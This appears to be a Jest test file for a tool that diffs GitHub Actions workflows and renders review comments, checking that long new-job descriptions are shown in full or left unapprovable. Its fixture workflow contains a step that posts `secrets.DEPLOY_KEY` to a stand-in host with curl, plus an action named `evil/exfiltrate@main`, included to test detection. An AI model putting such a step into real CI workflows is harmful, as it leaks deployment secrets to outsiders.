/**
 * Session 23: a new job is one diff row whose value describes everything it holds, permissions first
 * (`permissions: …; secrets: …; environments: …; actions: …`, up to 900 characters). The comment
 * clipped every value at 300 characters, so `permissions: read-all` (about 330) filled the cell and a
 * secret, an environment and an unpinned action after it were never shown; the approval label
 * approved that row as the comment showed it. Now a value is shown up to 1,000 characters (the
 * artifact's cap), and a widened row that still cannot be shown whole (a description the diff itself
 * cut past 900 characters, a name past 300) is one no label approves, as a row cut off the comment is.
 */
import { describe, expect, it } from '@jest/globals';
import { diffSnapshots, DESCRIPTION_CUT, type Change } from '../../shared/diff/diff.js';
import { renderDiffMarkdown, widenedNotShown } from '../../shared/diff/render.js';
import { snapshot } from '../../shared/diff/snapshot.js';
import { wf } from '../support/repo.js';

const SHA = '0123456789abcdef0123456789abcdef01234567';
const BASE =
  'on: push\npermissions: { contents: read }\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';
const lint = (actions: number) =>
  BASE +
  '  lint:\n    runs-on: ubuntu-latest\n    permissions: read-all\n    environment: production\n    steps:\n' +
  Array.from(
    { length: actions },
    (_, i) => `      - uses: tools/step${String(i).padStart(2, '0')}@${SHA}\n`,
  ).join('') +
  '      - uses: evil/exfiltrate@main\n' +
  '      - run: curl -d "${{ secrets.DEPLOY_KEY }}" https://x.example\n';

const diff = (head: string): Change[] =>
  diffSnapshots(snapshot([wf('ci.yml', BASE)]), snapshot([wf('ci.yml', head)]));

describe('a new job row shows everything the diff says it holds', () => {
  it('shows the secret, environment and unpinned action after read-all permissions', () => {
    const changes = diff(lint(0));
    const row = changes.find((c) => c.job === 'lint')!;
    expect(row.after!.length).toBeGreaterThan(300);
    const body = renderDiffMarkdown(changes);
    for (const text of ['DEPLOY\\_KEY', 'production', 'evil/exfiltrate@\u200dmain (unpinned)'])
      expect(body).toContain(text);
    expect(widenedNotShown(changes, body)).toBe(0);
  });

  it('no label approves a new job the diff had to cut (the tail is shown to no one)', () => {
    const changes = diff(lint(12));
    const row = changes.find((c) => c.job === 'lint')!;
    expect(row.after!.endsWith(DESCRIPTION_CUT)).toBe(true);
    expect(widenedNotShown(changes, renderDiffMarkdown(changes))).toBe(1);
  });

  it('no label approves a row whose name is clipped in its cell', () => {
    const long: Change = {
      workflow: 'ci.yml',
      job: 'lint',
      kind: 'action',
      subject: `evil/${'x'.repeat(320)}@main`,
      before: null,
      after: 'unpinned',
      effect: 'widened',
    };
    expect(widenedNotShown([long], renderDiffMarkdown([long]))).toBe(1);
  });
});
